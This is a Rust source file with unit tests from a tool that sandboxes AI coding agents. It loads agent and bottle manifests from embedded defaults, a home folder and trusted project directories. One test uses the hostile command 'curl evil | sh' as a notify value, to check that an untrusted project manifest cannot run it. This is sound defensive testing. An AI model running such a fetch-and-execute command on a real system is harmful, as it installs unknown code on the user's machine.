//! Finding and reading manifest files: embedded defaults, then
//! `$BOT_BOTTLE_HOME`, then the directory bot-bottle runs from (`project`).

use std::fs;
use std::path::{Path, PathBuf};

use super::parse::{self, RawAgent, RawBottle, RawImage, Source};
use super::resolve::{self, Level};
use super::{
    Agent, Bottle, Dockerfile, Egress, ImageSource, Manifest, ManifestError, Origin, Place,
    Provenance, Skill, SshEntry, Summary,
};

mod project;

const EMBEDDED_JSON: &str = include_str!("defaults/bot-bottle.json");
const EMBEDDED_FILES: &[(&str, &str)] = &[
    ("Dockerfile", include_str!("defaults/Dockerfile")),
    (
        "claude.Dockerfile",
        include_str!("defaults/claude.Dockerfile"),
    ),
    (
        "codex.Dockerfile",
        include_str!("defaults/codex.Dockerfile"),
    ),
];

/// Where manifests are looked for.
#[derive(Debug, Clone)]
pub struct Sources {
    /// `$BOT_BOTTLE_HOME` (default `~/.bot-bottle`).
    pub home: PathBuf,
    /// The directory bot-bottle runs from: a project's, when it has a
    /// `bot-bottle.json` or a `.bot-bottle/`.
    pub cwd: PathBuf,
    /// The user's home folder, for `~/` in paths.
    pub user_home: Option<PathBuf>,
}

impl Sources {
    /// The manifests of `$BOT_BOTTLE_HOME` (`home`) and of `cwd`, with
    /// `~/` in paths taken from `$HOME`.
    pub fn new(home: &Path, cwd: &Path) -> Sources {
        Sources {
            home: home.to_path_buf(),
            cwd: cwd.to_path_buf(),
            user_home: std::env::var_os("HOME")
                .filter(|h| !h.is_empty())
                .map(PathBuf::from),
        }
    }
}

/// Which source a level is: the operator's own, or a project's.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Embedded,
    Home,
    Project,
}

/// The definitions of one level, parsed, before their files are checked.
#[derive(Debug, Default)]
struct RawLevel {
    agents: Vec<RawAgent>,
    bottles: Vec<RawBottle>,
}

/// Reads, parses and validates every source. The embedded defaults and
/// `$BOT_BOTTLE_HOME` are the operator's: an error in them is the load's.
/// The directory's own manifest is loaded apart (see `project`): it is
/// used only when trusted, and its failure is `Manifest::project`, never
/// the load's.
pub(crate) fn load(sources: &Sources) -> Result<Manifest, ManifestError> {
    let base = base_levels(sources)?;
    let manifest = resolve::resolve(base.clone())?;
    Ok(project::add(sources, base, manifest))
}

/// What `bot-bottle trust` shows of the directory's manifest, checked as
/// if it were trusted; None when there is none. Its errors are the
/// project's (and the operator's, which come first).
pub(crate) fn inspect(sources: &Sources) -> Result<Option<Summary>, ManifestError> {
    let base = base_levels(sources)?;
    let manifest = resolve::resolve(base.clone())?;
    project::inspect(sources, base, &manifest)
}

/// The embedded defaults and `$BOT_BOTTLE_HOME`'s files, checked.
fn base_levels(sources: &Sources) -> Result<Vec<Level>, ManifestError> {
    let embedded = Source {
        origin: Origin::Embedded,
        base_dir: None,
        home: None,
    };
    let (agents, bottles) = parse::parse_json(EMBEDDED_JSON, &embedded)?;
    let embedded = RawLevel { agents, bottles };
    let home = read_home(sources)?;
    Ok(vec![
        finish_level(embedded, sources, Kind::Embedded)?,
        finish_level(home, sources, Kind::Home)?,
    ])
}

fn read_home(sources: &Sources) -> Result<RawLevel, ManifestError> {
    let dir = &sources.home;
    let mut level = RawLevel::default();
    let json = dir.join("bot-bottle.json");
    if json.is_file() {
        let src = Source {
            origin: Origin::File(json.clone()),
            base_dir: Some(dir.clone()),
            home: sources.user_home.clone(),
        };
        let (a, b) = parse::parse_json(&read(&json, &src.origin)?, &src)?;
        level.agents.extend(a);
        level.bottles.extend(b);
    }
    let agents_dir = dir.join("agents");
    for (path, stem) in markdown_files(&agents_dir)? {
        let src = Source {
            origin: Origin::File(agents_dir.join(format!("{stem}.md"))),
            base_dir: Some(dir.clone()),
            home: sources.user_home.clone(),
        };
        let text = read(&path, &src.origin)?;
        level
            .agents
            .push(parse::parse_agent_md(&text, &stem, &src)?);
    }
    Ok(level)
}

/// The notify command of `$BOT_BOTTLE_HOME/bot-bottle.json` (`home`), if
/// it names one (see `crate::notify`).
pub(crate) fn notify_command(home: &Path) -> Result<Option<String>, ManifestError> {
    match home_manifest(home)? {
        None => Ok(None),
        Some((text, src)) => parse::notify_command(&text, &src),
    }
}

/// The `capability.base_images` of `$BOT_BOTTLE_HOME/bot-bottle.json`
/// (`home`): the images an agent's Dockerfile may read besides the
/// bottle's own (see `crate::dockerfile::images`).
pub(crate) fn capability_base_images(home: &Path) -> Result<Vec<String>, ManifestError> {
    match home_manifest(home)? {
        None => Ok(Vec::new()),
        Some((text, src)) => Ok(parse::capability_base_images(&text, &src)?.unwrap_or_default()),
    }
}

/// The `idle_after` of `$BOT_BOTTLE_HOME/bot-bottle.json` (`home`): how
/// long an agent may be idle before the dashboard puts it to sleep.
pub(crate) fn idle_after(home: &Path) -> Result<Option<std::time::Duration>, ManifestError> {
    match home_manifest(home)? {
        None => Ok(None),
        Some((text, src)) => parse::idle_after(&text, &src),
    }
}

/// The price table of `$BOT_BOTTLE_HOME/bot-bottle.json` (`home`) when it
/// has `prices`, else the embedded defaults' (see `crate::pricing`): the
/// home's table replaces the embedded one entirely. Never fetched.
pub(crate) fn prices(home: &Path) -> Result<crate::pricing::Prices, ManifestError> {
    if let Some((text, src)) = home_manifest(home)?
        && let Some(prices) = parse::prices(&text, &src)?
    {
        return Ok(prices);
    }
    let embedded = Source {
        origin: Origin::Embedded,
        base_dir: None,
        home: None,
    };
    Ok(parse::prices(EMBEDDED_JSON, &embedded)?.unwrap_or_default())
}

/// The text of `$BOT_BOTTLE_HOME/bot-bottle.json` (`home`), with the
/// source its paths start from; None when there is no such file.
fn home_manifest(home: &Path) -> Result<Option<(String, Source)>, ManifestError> {
    let json = home.join("bot-bottle.json");
    if !json.is_file() {
        return Ok(None);
    }
    let src = Source {
        origin: Origin::File(json.clone()),
        base_dir: Some(home.to_path_buf()),
        home: None,
    };
    Ok(Some((read(&json, &src.origin)?, src)))
}

fn read(path: &Path, origin: &Origin) -> Result<String, ManifestError> {
    fs::read_to_string(path).map_err(|e| ManifestError::Read {
        file: origin.to_string(),
        reason: e.to_string(),
    })
}

/// The `*.md` files of a folder, sorted, with their stems.
fn markdown_files(dir: &Path) -> Result<Vec<(PathBuf, String)>, ManifestError> {
    let entries = match fs::read_dir(dir) {
        Ok(entries) => entries,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Vec::new()),
        Err(e) => {
            return Err(ManifestError::Read {
                file: dir.display().to_string(),
                reason: e.to_string(),
            });
        }
    };
    let mut files: Vec<(PathBuf, String)> = entries
        .filter_map(Result::ok)
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|x| x == "md") && p.is_file())
        .filter_map(|p| {
            let stem = p.file_stem()?.to_str()?.to_owned();
            Some((p, stem))
        })
        .collect();
    files.sort();
    Ok(files)
}

/// Checks the files a level names exist, and reads its Dockerfiles.
fn finish_level(raw: RawLevel, sources: &Sources, kind: Kind) -> Result<Level, ManifestError> {
    let agents = raw
        .agents
        .into_iter()
        .map(|a| finish_agent(a, sources, kind))
        .collect::<Result<_, _>>()?;
    let bottles = raw
        .bottles
        .into_iter()
        .map(finish_bottle)
        .collect::<Result<_, _>>()?;
    Ok(Level { agents, bottles })
}

/// Finds the agent's skills: in its own folder's `skills/`, then (a
/// project's agent) the project's `.bot-bottle/skills/`, then
/// `$BOT_BOTTLE_HOME/skills/`. The operator's agents never look in a
/// project, and a project's skill may not lead outside it.
fn finish_agent(raw: RawAgent, sources: &Sources, kind: Kind) -> Result<Agent, ManifestError> {
    let RawAgent {
        mut agent,
        skills: names,
        skills_dir,
    } = raw;
    let mut search: Vec<PathBuf> = skills_dir.into_iter().collect();
    let project_skills = (kind == Kind::Project).then(|| sources.cwd.join(".bot-bottle/skills"));
    for dir in project_skills
        .into_iter()
        .chain([sources.home.join("skills")])
    {
        if !search.contains(&dir) {
            search.push(dir);
        }
    }
    let invalid = |message: String, hint: String| ManifestError::Invalid {
        place: Place::agent(&agent.origin, &agent.name),
        key: "skills".into(),
        message,
        hint: Some(hint),
    };
    let mut skills = Vec::new();
    for name in &names {
        let Some(dir) = search.iter().map(|d| d.join(name)).find(|d| d.is_dir()) else {
            let looked: Vec<String> = search
                .iter()
                .map(|d| d.join(name).display().to_string())
                .collect();
            return Err(invalid(
                format!("skill '{name}' not found"),
                format!(
                    "make a folder with a SKILL.md in one of: {}",
                    looked.join(", ")
                ),
            ));
        };
        if kind == Kind::Project && !project::stays_inside(sources, &dir) {
            return Err(invalid(
                format!("{} leads outside the project", dir.display()),
                "a project's skill is a folder of its own, not a link elsewhere".into(),
            ));
        }
        skills.push(Skill {
            name: name.clone(),
            dir,
        });
    }
    agent.skills = skills;
    Ok(agent)
}

/// A parsed bottle made whole: its Dockerfile read, the files it names
/// checked to exist. Returns it with the name it extends, if any.
fn finish_bottle(raw: RawBottle) -> Result<(Bottle, Option<String>), ManifestError> {
    let place = Place::bottle(&raw.origin, &raw.name);
    let image = match raw.image {
        None => None,
        Some(image) => Some(image_source(image, &raw.origin, &place)?),
    };
    for (i, ca) in raw.trust_upstream_ca.iter().enumerate() {
        if !ca.is_file() {
            return Err(missing(
                &place,
                &format!("egress.trust_upstream_ca[{i}]"),
                ca,
                "name a PEM file of CA certificates",
            ));
        }
    }
    let mut ssh = Vec::new();
    for (i, (host, identity_file)) in raw.ssh.into_iter().enumerate() {
        if !identity_file.is_file() {
            return Err(missing(
                &place,
                &format!("ssh[{i}].identity_file"),
                &identity_file,
                "name an existing private key file",
            ));
        }
        ssh.push(SshEntry {
            host,
            identity_file,
        });
    }
    let mut bottle = Bottle {
        name: raw.name,
        image,
        env: raw.env,
        egress: Egress {
            routes: raw.routes,
            trust_upstream_ca: raw.trust_upstream_ca,
        },
        ssh,
        limits: raw.limits,
        git: raw.git,
        origin: raw.origin,
        provenance: Provenance::default(),
    };
    bottle.provenance = Provenance::of(&bottle);
    Ok((bottle, raw.extends))
}

/// A bottle's image: the reference, or its Dockerfile read (from the
/// embedded files for the embedded defaults).
fn image_source(
    image: RawImage,
    origin: &Origin,
    place: &Place,
) -> Result<ImageSource, ManifestError> {
    match image {
        RawImage::Image(reference) => Ok(ImageSource::Image(reference)),
        RawImage::Dockerfile(path) if *origin == Origin::Embedded => {
            let name = path.display().to_string();
            let contents = EMBEDDED_FILES
                .iter()
                .find(|(n, _)| *n == name)
                .map(|(_, text)| (*text).to_owned())
                .ok_or_else(|| {
                    missing(
                        place,
                        "dockerfile",
                        &path,
                        "embedded defaults name a missing file",
                    )
                })?;
            Ok(ImageSource::Dockerfile(Dockerfile {
                shown_as: format!("{}/{name}", Origin::Embedded),
                contents,
                context: None,
                from_agent: false,
            }))
        }
        RawImage::Dockerfile(path) => {
            if !path.is_file() {
                return Err(missing(
                    place,
                    "dockerfile",
                    &path,
                    "point 'dockerfile' at an existing Dockerfile",
                ));
            }
            let contents = fs::read_to_string(&path).map_err(|e| ManifestError::Invalid {
                place: place.clone(),
                key: "dockerfile".into(),
                message: format!("cannot read {}: {e}", path.display()),
                hint: None,
            })?;
            Ok(ImageSource::Dockerfile(Dockerfile {
                shown_as: path.display().to_string(),
                contents,
                context: path.parent().map(Path::to_path_buf),
                from_agent: false,
            }))
        }
    }
}

/// The error for a file `key` names that does not exist (`what`: the hint).
fn missing(place: &Place, key: &str, path: &Path, what: &str) -> ManifestError {
    ManifestError::Invalid {
        place: place.clone(),
        key: key.to_owned(),
        message: format!("{} does not exist", path.display()),
        hint: Some(format!(
            "{what}; relative paths start from the folder of the file that names them"
        )),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::manifest::{Project, TrustStore};
    use crate::provider::Provider;

    pub(super) fn sources(dir: &Path) -> Sources {
        Sources {
            home: dir.join("home"),
            cwd: dir.join("proj"),
            user_home: Some(dir.to_path_buf()),
        }
    }

    /// `read` of a home whose `bot-bottle.json` is `json` (an error with
    /// the temporary folder cut off), and whether the manifests load.
    fn on_home<T>(
        json: &str,
        read: impl Fn(&Path) -> Result<T, ManifestError>,
    ) -> (Result<T, String>, bool) {
        let dir = tempfile::tempdir().unwrap();
        let s = sources(dir.path());
        fs::create_dir_all(&s.home).unwrap();
        fs::write(s.home.join("bot-bottle.json"), json).unwrap();
        let got = read(&s.home).map_err(|e| {
            e.to_string()
                .replace(&format!("{}/", dir.path().display()), "")
        });
        (got, load(&s).is_ok())
    }

    /// The note the load of a project leaves whose `bot-bottle.json` is
    /// `json`, which sets what only the operator's own may: the project
    /// cannot be trusted either, and `read` finds nothing in the home.
    fn refused_in_project<T: Default + PartialEq + std::fmt::Debug>(
        json: &str,
        read: impl Fn(&Path) -> Result<T, ManifestError>,
    ) -> String {
        let dir = tempfile::tempdir().unwrap();
        let s = sources(dir.path());
        fs::create_dir_all(&s.cwd).unwrap();
        fs::write(s.cwd.join("bot-bottle.json"), json).unwrap();
        let note = load(&s).unwrap().project.note().unwrap();
        assert!(inspect(&s).is_err(), "it cannot be trusted either");
        assert_eq!(read(&s.home).unwrap(), T::default());
        note
    }

    /// Records the project of `s` as trusted, as it is now.
    pub(super) fn trust(s: &Sources) {
        let summary = inspect(s).unwrap().unwrap();
        let mut store = TrustStore::read(&s.home).unwrap();
        store.trust(&summary.dir, &summary.digest);
        fs::create_dir_all(&s.home).unwrap();
        fs::write(TrustStore::path(&s.home), store.to_json()).unwrap();
    }

    #[test]
    fn the_notify_command_comes_from_home_only() {
        let cases: Vec<(&str, Result<Option<&str>, &str>)> = vec![
            (r#"{}"#, Ok(None)),
            (
                r#"{"notify": {"command": "notify-send bot-bottle"}}"#,
                Ok(Some("notify-send bot-bottle")),
            ),
            (
                r#"{"notify": {"command": " "}}"#,
                Err("home/bot-bottle.json: notify.command: must be a shell command"),
            ),
            (
                r#"{"notify": {"command": 1}}"#,
                Err("home/bot-bottle.json: notify.command: expected a string, found a number"),
            ),
            (
                r#"{"notify": {"cmd": "x"}}"#,
                Err("home/bot-bottle.json: unknown key 'notify.cmd'"),
            ),
            (
                r#"{"notify": "x"}"#,
                Err("home/bot-bottle.json: notify: expected an object, found a string"),
            ),
        ];
        for (json, want) in cases {
            let (got, loads) = on_home(json, notify_command);
            let want = want.map(|c| c.map(str::to_owned)).map_err(str::to_owned);
            assert_eq!(got, want, "{json}");
            assert_eq!(loads, want.is_ok(), "{json}");
        }
        // A project's manifest may not run commands on the operator's
        // machine: it is not used, whatever else it holds.
        let note = refused_in_project(
            r#"{"notify": {"command": "curl evil | sh"}}"#,
            notify_command,
        );
        assert_eq!(
            note,
            "./bot-bottle.json: notify: is read from $BOT_BOTTLE_HOME/bot-bottle.json only: a project's manifest may not run commands on your machine; the project's agents and bottles are not used"
        );
    }

    #[test]
    fn capability_base_images_come_from_home_only() {
        let cases: Vec<(&str, Result<Vec<&str>, &str>)> = vec![
            (r#"{}"#, Ok(vec![])),
            (
                r#"{"capability": {"base_images": ["node:20", "ghcr.io/acme/tools:1.2"]}}"#,
                Ok(vec!["node:20", "ghcr.io/acme/tools:1.2"]),
            ),
            (
                r#"{"capability": {"base_images": ["node:$V"]}}"#,
                Err(
                    "home/bot-bottle.json: capability.base_images[0]: 'node:$V' is not a plain image reference: '$' (no variables, quotes or escapes)",
                ),
            ),
            (
                r#"{"capability": {"base_images": "node:20"}}"#,
                Err(
                    "home/bot-bottle.json: capability.base_images: expected a list, found a string",
                ),
            ),
            (
                r#"{"capability": {"images": []}}"#,
                Err("home/bot-bottle.json: unknown key 'capability.images'"),
            ),
        ];
        for (json, want) in cases {
            let (got, loads) = on_home(json, capability_base_images);
            let want = want
                .map(|l| l.into_iter().map(str::to_owned).collect::<Vec<_>>())
                .map_err(str::to_owned);
            assert_eq!(got, want, "{json}");
            assert_eq!(loads, want.is_ok(), "{json}");
        }
        // A project's manifest may not widen what an agent's build reads.
        let note = refused_in_project(
            r#"{"capability": {"base_images": ["acme/private:latest"]}}"#,
            capability_base_images,
        );
        assert_eq!(
            note,
            "./bot-bottle.json: capability: is read from $BOT_BOTTLE_HOME/bot-bottle.json only: a project's manifest may not choose which of your images an agent's Dockerfile can read; the project's agents and bottles are not used"
        );
    }

    #[test]
    fn idle_after_comes_from_home_only() {
        use std::time::Duration;
        let bad = |text: &str| {
            format!("home/bot-bottle.json: idle_after: '{text}' is not a duration of 10s or more")
        };
        let cases: Vec<(&str, Result<Option<Duration>, String>)> = vec![
            (r#"{}"#, Ok(None)),
            (
                r#"{"idle_after": "30m"}"#,
                Ok(Some(Duration::from_secs(1800))),
            ),
            (
                r#"{"idle_after": "10s"}"#,
                Ok(Some(Duration::from_secs(10))),
            ),
            (r#"{"idle_after": "9s"}"#, Err(bad("9s"))),
            (r#"{"idle_after": "soon"}"#, Err(bad("soon"))),
            (
                r#"{"idle_after": 30}"#,
                Err("home/bot-bottle.json: idle_after: expected a string, found a number".into()),
            ),
        ];
        for (json, want) in cases {
            let (got, loads) = on_home(json, idle_after);
            let want_loads = want.is_ok();
            assert_eq!(got, want, "{json}");
            assert_eq!(loads, want_loads, "{json}");
        }
        let note = refused_in_project(r#"{"idle_after": "1m"}"#, idle_after);
        assert!(
            note.starts_with("./bot-bottle.json: idle_after: is read from $BOT_BOTTLE_HOME/bot-bottle.json only: a project's manifest may not pause your agents"),
            "{note}"
        );
    }

    #[test]
    fn prices_come_from_home_only_and_replace_the_embedded_ones() {
        type Row = (String, [f64; 4]);
        let rows = |home: &Path| -> Result<Vec<Row>, ManifestError> {
            Ok(prices(home)?
                .by_prefix
                .into_iter()
                .map(|(k, p)| (k, [p.input, p.output, p.cache_read, p.cache_write]))
                .collect())
        };
        let bad = |key: &str, message: &str| Err(format!("home/bot-bottle.json: {key}: {message}"));
        type Want<'a> = Result<Vec<(&'a str, [f64; 4])>, String>;
        let cases: Vec<(&str, Want)> = vec![
            (
                r#"{"prices": {"claude-sonnet-4": {"input": 3, "output": 15, "cache_read": 0.3, "cache_write": 3.75}}}"#,
                Ok(vec![("claude-sonnet-4", [3.0, 15.0, 0.3, 3.75])]),
            ),
            (
                r#"{"prices": {"m": {"input": 2, "output": 8}, "m-mini": {"input": 0, "output": 0.5, "cache_read": 0}}}"#,
                Ok(vec![
                    ("m", [2.0, 8.0, 2.0, 2.0]),
                    ("m-mini", [0.0, 0.5, 0.0, 0.0]),
                ]),
            ),
            (r#"{"prices": {}}"#, Ok(vec![])),
            (
                r#"{"prices": {"m": {"input": 2}}}"#,
                bad(
                    "prices.m.output",
                    "is missing: input and output are required; cache_read and cache_write default to input",
                ),
            ),
            (
                r#"{"prices": {"m": {"input": -1, "output": 2}}}"#,
                bad("prices.m.input", "-1 is not a price"),
            ),
            (
                r#"{"prices": {"m": {"input": 1, "output": "2"}}}"#,
                bad("prices.m.output", "expected a number, found a string"),
            ),
            (
                r#"{"prices": {"m": {"input": 1, "output": 2, "cached": 0}}}"#,
                Err("home/bot-bottle.json: unknown key 'prices.m.cached'".into()),
            ),
            (
                r#"{"prices": {"m": 3}}"#,
                bad("prices.m", "expected an object, found a number"),
            ),
            (
                r#"{"prices": []}"#,
                bad("prices", "expected an object, found a list"),
            ),
        ];
        for (json, want) in cases {
            let (got, loads) = on_home(json, rows);
            let want: Result<Vec<Row>, String> =
                want.map(|r| r.into_iter().map(|(k, p)| (k.to_owned(), p)).collect());
            assert_eq!(got, want, "{json}");
            assert_eq!(loads, want.is_ok(), "{json}");
        }
        // Without a table of its own, the home prices at the embedded
        // defaults, which parse.
        let embedded = on_home("{}", rows).0.unwrap();
        let names: Vec<&str> = embedded.iter().map(|(k, _)| k.as_str()).collect();
        assert!(
            names.contains(&"claude-sonnet-4") && names.contains(&"gpt-5"),
            "{names:?}"
        );
        // A project's manifest may not set them.
        let note = refused_in_project(
            r#"{"prices": {"claude": {"input": 0, "output": 0}}}"#,
            |home| Ok(rows(home)? != embedded),
        );
        assert!(
            note.starts_with("./bot-bottle.json: prices: is read from $BOT_BOTTLE_HOME/bot-bottle.json only: a project's manifest may not set what your agents' tokens are said to cost"),
            "{note}"
        );
    }

    #[test]
    fn embedded_defaults_alone() {
        let dir = tempfile::tempdir().unwrap();
        let m = load(&sources(dir.path())).unwrap();
        assert_eq!(m.agent_names(), ["claude", "codex", "shell"]);
        assert_eq!(m.agents["shell"].provider, Provider::Shell);
        assert_eq!(m.project, Project::None);
        let claude = &m.bottles["claude"];
        assert_eq!(claude.egress.routes[0].host, "api.anthropic.com");
        assert!(
            matches!(claude.image, Some(ImageSource::Dockerfile(ref d)) if d.shown_as.ends_with("claude.Dockerfile"))
        );
    }

    #[test]
    fn a_trusted_cwd_replaces_home_replaces_embedded() {
        let dir = tempfile::tempdir().unwrap();
        let s = sources(dir.path());
        fs::create_dir_all(s.home.join("agents")).unwrap();
        fs::create_dir_all(s.cwd.join(".bot-bottle/agents")).unwrap();
        fs::write(
            s.home.join("bot-bottle.json"),
            r#"{"bottles": {"default": {"image": "home-image"}}, "agents": {"dev": {"provider": "shell"}}}"#,
        )
        .unwrap();
        fs::write(
            s.home.join("agents/shell.md"),
            "---\nprovider: shell\n---\nfrom home\n",
        )
        .unwrap();
        fs::write(
            s.cwd.join("bot-bottle.json"),
            r#"{"bottles": {"default": {"image": "cwd-image"}}}"#,
        )
        .unwrap();
        fs::write(
            s.cwd.join(".bot-bottle/agents/dev.md"),
            "---\nprovider: codex\n---\n",
        )
        .unwrap();

        // Not trusted: the operator's own, and the line that says so.
        let m = load(&s).unwrap();
        assert_eq!(
            m.bottles["default"].image,
            Some(ImageSource::Image("home-image".into()))
        );
        assert_eq!(m.agents["dev"].provider, Provider::Shell);
        assert!(matches!(
            m.project,
            Project::Untrusted { changed: false, .. }
        ));

        trust(&s);
        let m = load(&s).unwrap();
        assert!(m.project.is_trusted());
        assert_eq!(
            m.bottles["default"].image,
            Some(ImageSource::Image("cwd-image".into()))
        );
        assert_eq!(m.agents["shell"].prompt, "from home");
        assert_eq!(m.agents["dev"].provider, Provider::Codex);
        assert_eq!(
            m.agents["dev"].origin,
            Origin::Project(".bot-bottle/agents/dev.md".into())
        );
        assert_eq!(
            m.project.replaces("bottle", "default"),
            Some(&Origin::File(s.home.join("bot-bottle.json")))
        );
    }

    #[test]
    fn a_projects_agent_finds_skills_in_the_project_then_home() {
        let dir = tempfile::tempdir().unwrap();
        let s = sources(dir.path());
        fs::create_dir_all(s.home.join("skills/review")).unwrap();
        fs::create_dir_all(s.home.join("skills/lint")).unwrap();
        fs::create_dir_all(s.cwd.join(".bot-bottle/skills/lint")).unwrap();
        fs::write(
            s.cwd.join("bot-bottle.json"),
            r#"{"agents": {"dev": {"skills": ["review", "lint"]}}}"#,
        )
        .unwrap();
        trust(&s);
        let m = load(&s).unwrap();
        let dirs: Vec<&Path> = m.agents["dev"]
            .skills
            .iter()
            .map(|k| k.dir.as_path())
            .collect();
        assert_eq!(
            dirs,
            [
                s.home.join("skills/review").as_path(),
                s.cwd.join(".bot-bottle/skills/lint").as_path()
            ]
        );
    }
}
